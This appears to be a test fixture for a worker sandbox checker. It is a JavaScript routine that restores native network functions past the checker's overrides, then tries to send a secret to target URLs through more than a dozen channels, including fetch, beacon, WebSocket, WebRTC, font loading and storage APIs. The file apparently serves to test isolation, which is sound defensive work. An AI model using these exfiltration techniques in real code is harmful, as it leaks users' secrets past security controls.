/**
 * Tries to carry a secret out of a worker. It is told everything by the fragment of its address, or, where it runs
 * behind the checker's own worker, by the constant ATTACK, and then takes the secret from the checker's message.
 */
{
  const attack = async (/** @type {{ place: string, secret: string, targets: string[] }} */ { place, secret, targets }) => {
    const scope = /** @type {any} */ (globalThis);
    // What the checker's worker put in the way of `fetch` and others is undone first, as far as that goes.
    const old = Object.getPrototypeOf(Object.getPrototypeOf(scope));
    const native = (name) => Object.getOwnPropertyDescriptor(old, name)?.value?.bind(scope) ?? scope[name];

    /** @type {Record<string, (to: string) => unknown>} */
    const ways = {
      fetch: (to) => native("fetch")(to, { mode: "no-cors" }),
      "fetch-post": (to) => native("fetch")(to, { mode: "no-cors", method: "POST", body: secret, keepalive: true }),
      "fetch-as-it-is": (to) => scope.fetch(to),
      xhr: (to) => {
        const request = new scope.XMLHttpRequest();
        request.open("GET", to);
        request.send();
      },
      websocket: (to) => new scope.WebSocket(to.replace("http", "ws")),
      eventsource: (to) => new scope.EventSource(to),
      beacon: (to) => scope.navigator.sendBeacon(to, secret),
      import: (to) => import(to),
      "import-scripts": (to) => native("importScripts")(to),
      font: (to) => new scope.FontFace("leak", `url("${to}")`).load(),
      "worker-in-worker": (to) => new scope.Worker(to),
      webtransport: (to) => new scope.WebTransport(to.replace("http:", "https:")),
      webrtc: (to) => new scope.RTCPeerConnection({ iceServers: [{ urls: to.replace("http://", "stun:") }] }),
    };
    const stores = {
      indexedDB: () => scope.indexedDB.open(secret),
      caches: () => scope.caches.open(secret),
      broadcast: () => new scope.BroadcastChannel("leak").postMessage(secret),
    };
    for (const way of Object.values(stores)) void attempt(way);
    for (const [name, way] of Object.entries(ways)) {
      for (const target of targets) void attempt(() => way(`${target}leak/${place}/${name}?${encodeURIComponent(secret)}`));
    }
  };

  const attempt = async (/** @type {() => unknown} */ way) => {
    try {
      await way();
    } catch {
      // Refused, as it should be; what matters is what others hear.
    }
  };

  if (typeof ATTACK === "undefined") void attack(JSON.parse(decodeURIComponent(location.hash.slice(1))));
  else
    globalThis.addEventListener("message", (event) => {
      const secret = event.data.request?.secret;
      if (secret) void attack({ ...ATTACK, secret });
    });
}
